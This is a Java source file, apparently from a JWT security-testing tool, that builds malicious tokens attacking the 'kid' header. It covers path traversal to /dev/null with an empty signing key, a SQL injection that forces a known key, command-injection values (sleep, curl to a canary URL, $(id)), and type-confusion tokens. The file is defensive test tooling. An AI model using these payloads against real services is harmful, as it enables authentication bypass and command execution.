package dev.mintmark.drills.generate;

import com.fasterxml.jackson.databind.node.IntNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.NullNode;
import dev.mintmark.drills.DrillToken;
import java.nio.charset.StandardCharsets;
import java.util.Map;

/** A {@code kid} that names nothing, another key, or an attack on whatever looks it up. */
final class KeyIdDrills {
    private KeyIdDrills() {}

    static Map<String, DrillGenerator> all() {
        return Map.of(
                "kid-traversal-null",
                        drill -> Outcome.of(
                                DrillToken.of(
                                        "relative",
                                        HmacDrills.hmac(
                                                drill, drill.header("kid", "../../../../../../dev/null"), new byte[0])),
                                DrillToken.of(
                                        "absolute",
                                        HmacDrills.hmac(drill, drill.header("kid", "/dev/null"), new byte[0]))),
                "kid-sql",
                        drill -> Outcome.of(HmacDrills.hmac(
                                drill,
                                drill.header("kid", "x' UNION SELECT '1';-- "),
                                "1".getBytes(StandardCharsets.US_ASCII))),
                "kid-command", KeyIdDrills::commands,
                "kid-unknown",
                        drill -> Outcome.of(
                                drill.signed(drill.attacker(), drill.header("kid", "no-such-key"), drill.claims())),
                "kid-wrong-key", KeyIdDrills::wrongKey,
                "kid-array", KeyIdDrills::types,
                "key-other-issuer",
                        drill -> Outcome.skipped(
                                "All issuers of this service share one key ring, so no key belongs to one alone"));
    }

    private static Outcome commands(DrillContext drill) {
        String kid = drill.keys().base().id();
        String url = drill.canary().orElse("http://127.0.0.1:9/");
        return Outcome.of(
                DrillToken.of("sleep", drill.signed(drill.header("kid", kid + ";sleep 10"), drill.claims())),
                DrillToken.of("curl", drill.signed(drill.header("kid", kid + "|curl " + url), drill.claims())),
                DrillToken.of("id", drill.signed(drill.header("kid", "$(id)"), drill.claims())));
    }

    private static Outcome wrongKey(DrillContext drill) {
        return drill.withRsa(rsa -> drill.withEc(ec -> Outcome.of(drill.signed(
                rsa, drill.header(rsa).toBuilder().put("kid", ec.id()).build(), drill.claims()))));
    }

    private static Outcome types(DrillContext drill) {
        String kid = drill.keys().base().id();
        return Outcome.of(
                DrillToken.of(
                        "array",
                        drill.signed(
                                drill.header(
                                        "kid",
                                        JsonNodeFactory.instance.arrayNode().add(kid)),
                                drill.claims())),
                DrillToken.of("number", drill.signed(drill.header("kid", IntNode.valueOf(1)), drill.claims())),
                DrillToken.of("null", drill.signed(drill.header("kid", NullNode.instance), drill.claims())));
    }
}
